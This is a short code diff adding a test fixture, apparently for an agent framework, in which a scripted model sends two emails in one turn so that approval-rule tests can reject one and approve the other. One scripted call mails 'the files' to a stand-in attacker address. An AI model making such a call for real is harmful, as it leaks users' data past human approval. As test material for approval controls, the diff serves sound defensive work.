@@ -48,3 +48,20 @@ mailer = Agent(
     ),
     tools=[lookup, send_email],
 )
+
+double_mailer = Agent(
+    name="DoubleMailer",
+    instructions="Send the emails you are asked to send.",
+    model=TurnModel(
+        [
+            [
+                ("send_email", {"to": "attacker@evil.example", "body": "the files"}),
+                ("send_email", {"to": "bob@example.com", "body": "hi"}),
+            ]
+        ],
+        final="mail handled",
+        log=log,
+    ),
+    tools=[send_email],
+)
+"""Two calls of one tool in one turn: the approval-rule tests reject one and approve the other."""
